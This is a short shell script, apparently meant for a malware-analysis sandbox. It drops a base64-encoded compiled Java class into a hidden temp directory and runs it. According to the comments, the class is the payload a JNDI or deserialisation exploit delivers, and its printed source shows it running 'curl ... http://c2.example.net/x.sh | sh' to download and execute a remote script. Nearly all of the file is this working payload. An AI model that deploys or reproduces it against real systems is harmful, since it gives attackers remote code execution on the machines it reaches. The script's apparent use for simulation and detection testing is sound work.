#!/bin/sh
# SPDX-License-Identifier: MIT
# What an exploited Java service runs (the class a JNDI lookup or a
# deserialisation payload delivers): the JVM starts a shell that downloads
# a script and pipes it to another shell.  The class, carried in base64,
# is this source compiled with `javac --release 8`:
#   public class Payload {
#   	public static void main(String[] args) throws Exception {
#   		Process p = Runtime.getRuntime().exec(new String[] { "/bin/sh", "-c",
#   			"curl -s -m 3 http://c2.example.net/x.sh | sh" });
#   		p.waitFor();
#   	}
#   }
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
d=/tmp/.jx; mkdir -p $d
base64 -d > $d/Payload.class <<'CLASS'
yv66vgAAADQAKgoAAgADBwAEDAAFAAYBABBqYXZhL2xhbmcvT2JqZWN0AQAGPGluaXQ+AQADKClW
CgAIAAkHAAoMAAsADAEAEWphdmEvbGFuZy9SdW50aW1lAQAKZ2V0UnVudGltZQEAFSgpTGphdmEv
bGFuZy9SdW50aW1lOwcADgEAEGphdmEvbGFuZy9TdHJpbmcIABABAAcvYmluL3NoCAASAQACLWMI
ABQBACxjdXJsIC1zIC1tIDMgaHR0cDovL2MyLmV4YW1wbGUubmV0L3guc2ggfCBzaAoACAAWDAAX
ABgBAARleGVjAQAoKFtMamF2YS9sYW5nL1N0cmluZzspTGphdmEvbGFuZy9Qcm9jZXNzOwoAGgAb
BwAcDAAdAB4BABFqYXZhL2xhbmcvUHJvY2VzcwEAB3dhaXRGb3IBAAMoKUkHACABAAdQYXlsb2Fk
AQAEQ29kZQEAD0xpbmVOdW1iZXJUYWJsZQEABG1haW4BABYoW0xqYXZhL2xhbmcvU3RyaW5nOylW
AQAKRXhjZXB0aW9ucwcAJwEAE2phdmEvbGFuZy9FeGNlcHRpb24BAApTb3VyY2VGaWxlAQAMUGF5
bG9hZC5qYXZhACEAHwACAAAAAAACAAEABQAGAAEAIQAAAB0AAQABAAAABSq3AAGxAAAAAQAiAAAA
BgABAAAAAQAJACMAJAACACEAAABAAAUAAgAAACC4AAcGvQANWQMSD1NZBBIRU1kFEhNTtgAVTCu2
ABlXsQAAAAEAIgAAAA4AAwAAAAMAGgAFAB8ABgAlAAAABAABACYAAQAoAAAAAgAp
CLASS
timeout 20 java -cp $d Payload >/dev/null 2>&1
rm -rf $d
exit 0
